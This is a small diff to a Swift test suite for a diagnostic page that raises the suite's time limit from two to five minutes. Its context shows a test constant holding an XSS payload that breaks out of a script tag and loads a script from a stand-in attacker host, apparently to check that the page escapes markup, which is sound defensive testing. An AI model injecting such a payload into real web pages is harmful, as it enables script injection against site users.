@@ -7,7 +7,7 @@ import Testing
 
 @testable import MAM
 
-@Suite(.timeLimit(.minutes(2))) struct DiagnosticPageTests {
+@Suite(.timeLimit(.minutes(5))) struct DiagnosticPageTests {
   private static let hostile = "\"></script><script src='https://evil.example/x.js'></script><!--<img src=x onerror=y>&"
 
   /// Of alice in the sample tenant, with a line that is no friend of markup.
